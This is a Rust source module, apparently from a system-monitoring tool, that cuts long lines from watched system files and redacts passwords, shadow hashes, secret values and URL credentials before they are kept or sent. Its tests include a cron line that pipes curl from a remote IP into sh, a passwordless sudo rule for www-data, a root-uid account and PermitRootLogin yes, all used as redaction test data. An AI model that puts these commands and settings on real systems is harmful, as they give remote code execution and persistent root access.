//! Lines of files, what rules see of them, and what of them may be kept or sent: never a secret.

use compact_str::{CompactString, format_compact};
use picket_common::event::ChangeKind;

/// Of a long line rules see this much of its beginning, and of its end.
const SEEN: (usize, usize) = (3072, 1024);
/// And this much is kept: at the end is the comment of a key.
const KEPT: (usize, usize) = (160, 80);
/// More lines of a file are not looked at.
const MOST: usize = 10_000;
/// What a name ends in whose value is nobody's business.
const SECRET: [&str; 8] = [
    "password",
    "passwd",
    "passphrase",
    "secret",
    "token",
    "apikey",
    "api_key",
    "pwd",
];

/// The lines of a file, without blanks around them and without empty ones.
pub(super) fn of(content: &[u8]) -> impl Iterator<Item = &[u8]> {
    let lines = content.split(|byte| *byte == b'\n').map(<[u8]>::trim_ascii);
    lines.filter(|line| !line.is_empty()).take(MOST)
}

/// What rules see of a line. Who hides in a long line, or behind what looks like a secret, hides from them no better than from those
/// who read the file; but no password, nor its hash, is ever in it.
pub(super) fn told(kind: ChangeKind, line: &[u8]) -> CompactString {
    let text = String::from_utf8_lossy(line);
    match kind {
        ChangeKind::Passwords => password(&text),
        ChangeKind::Accounts => cut(&account(&text), SEEN),
        _ => cut(&text, SEEN),
    }
}

/// What is kept and sent of what rules have seen.
pub fn kept(line: &str) -> CompactString {
    cut(&without_credentials(&without_secrets(line)), KEPT)
}

/// `root:$y$…:19000:0:99999:7:::` without what is in the second field.
fn password(line: &str) -> CompactString {
    let mut fields = line.split(':');
    let name = fields.next().unwrap_or_default();
    let state = match fields.next() {
        None => return "…".into(),
        Some("") => "no password",
        Some(field) if field.starts_with(['!', '*']) => "locked",
        Some(_) => "a password",
    };
    format_compact!("{}: {state}", cut(name, KEPT))
}

/// `root:x:0:0:root:/root:/bin/bash`, whose second field holds a password where there is no file of passwords.
fn account(line: &str) -> String {
    let mut fields: Vec<&str> = line.split(':').collect();
    if let Some(field) = fields.get_mut(1)
        && !matches!(*field, "" | "x" | "*" | "!")
    {
        *field = "…";
    }
    fields.join(":")
}

/// `NAME_PASSWORD=value` without the value, however it is quoted, and with all that follows.
fn without_secrets(line: &str) -> String {
    let lower = line.to_ascii_lowercase();
    let ends = SECRET
        .iter()
        .flat_map(|name| lower.match_indices(name).map(|(at, name)| at + name.len()));
    let value = ends.filter(|at| {
        let after = lower.get(*at..).unwrap_or_default();
        after.starts_with(['=', ':'])
    });
    // `NOPASSWD:` of sudo is none.
    let value = value.filter(|at| {
        let before = lower.get(..*at).unwrap_or_default();
        let mut names = SECRET.iter().filter_map(|name| before.strip_suffix(name));
        !names.any(|before| before.ends_with("no"))
    });
    match value.min() {
        Some(at) => format!("{}…", line.get(..=at).unwrap_or_default()),
        None => line.to_owned(),
    }
}

/// `https://user:password@host` without user and password.
fn without_credentials(line: &str) -> String {
    let mut plain = String::with_capacity(line.len());
    let mut rest = line;
    while let Some((before, after)) = rest.split_once("://") {
        plain.push_str(before);
        plain.push_str("://");
        let end = after
            .find(|sign: char| sign == '/' || sign.is_whitespace() || sign == '"' || sign == '\'')
            .unwrap_or(after.len());
        let at = after.get(..end).and_then(|host| host.rfind('@'));
        rest = match at {
            Some(at) => {
                plain.push('…');
                after.get(at..).unwrap_or_default()
            }
            None => after,
        };
    }
    plain.push_str(rest);
    plain
}

fn cut(text: &str, (beginning, end): (usize, usize)) -> CompactString {
    if text.len() <= beginning + end {
        return text.into();
    }
    let beginning = text
        .get(..text.floor_char_boundary(beginning))
        .unwrap_or_default();
    let end = text
        .get(text.ceil_char_boundary(text.len() - end)..)
        .unwrap_or_default();
    format_compact!("{beginning}…{end}")
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn secrets_are_not_told_and_all_else_is() {
        let cases = [
            (
                ChangeKind::Passwords,
                "root:$y$j9T$abc:19000:0:99999:7:::",
                "root: a password",
            ),
            (ChangeKind::Passwords, "eve::19000::::::", "eve: no password"),
            (ChangeKind::Passwords, "daemon:*:19000::::::", "daemon: locked"),
            (ChangeKind::Passwords, "$y$j9T$abc", "…"),
            (
                ChangeKind::Accounts,
                "eve:x:0:0::/:/bin/sh",
                "eve:x:0:0::/:/bin/sh",
            ),
            (ChangeKind::Accounts, "eve::0:0::/:/bin/sh", "eve::0:0::/:/bin/sh"),
            (
                ChangeKind::Accounts,
                "eve:$1$abc:0:0::/:/bin/sh",
                "eve:…:0:0::/:/bin/sh",
            ),
            (
                ChangeKind::Systemd,
                "Environment=\"DB_PASSWORD=hush\" X=1",
                "Environment=\"DB_PASSWORD=…",
            ),
            (
                ChangeKind::Cron,
                "* * * * * curl -s https://a:hush@198.51.100.9/x | sh",
                "* * * * * curl -s https://…@198.51.100.9/x | sh",
            ),
            (
                ChangeKind::Cron,
                "* * * * * wget http://198.51.100.9/a@b",
                "* * * * * wget http://198.51.100.9/a@b",
            ),
            (
                ChangeKind::Pam,
                "password requisite pam_pwquality.so retry=3",
                "password requisite pam_pwquality.so retry=3",
            ),
            (
                ChangeKind::Sudoers,
                "www-data ALL=(ALL) NOPASSWD: ALL",
                "www-data ALL=(ALL) NOPASSWD: ALL",
            ),
            (
                ChangeKind::SshServer,
                "PermitRootLogin yes",
                "PermitRootLogin yes",
            ),
        ];
        for (kind, line, wanted) in cases {
            assert_eq!(kept(&told(kind, line.as_bytes())), wanted, "{line}");
        }
    }

    #[test]
    fn long_lines_keep_both_ends_and_no_line_breaks_it() {
        let key = format!("ssh-ed25519 {} eve@evil", "Ä".repeat(500));
        let text = kept(&told(ChangeKind::AuthorizedKeys, key.as_bytes()));
        assert!(text.starts_with("ssh-ed25519 Ä") && text.ends_with(" eve@evil") && text.len() < 260);
        let mut noise = fastrand::Rng::with_seed(7);
        for _ in 0..5000 {
            let line: Vec<u8> = (0..noise.usize(..400)).map(|_| noise.u8(..)).collect();
            for kind in [ChangeKind::Passwords, ChangeKind::Accounts, ChangeKind::Cron] {
                assert!(kept(&told(kind, &line)).len() < 1000);
            }
        }
    }
}
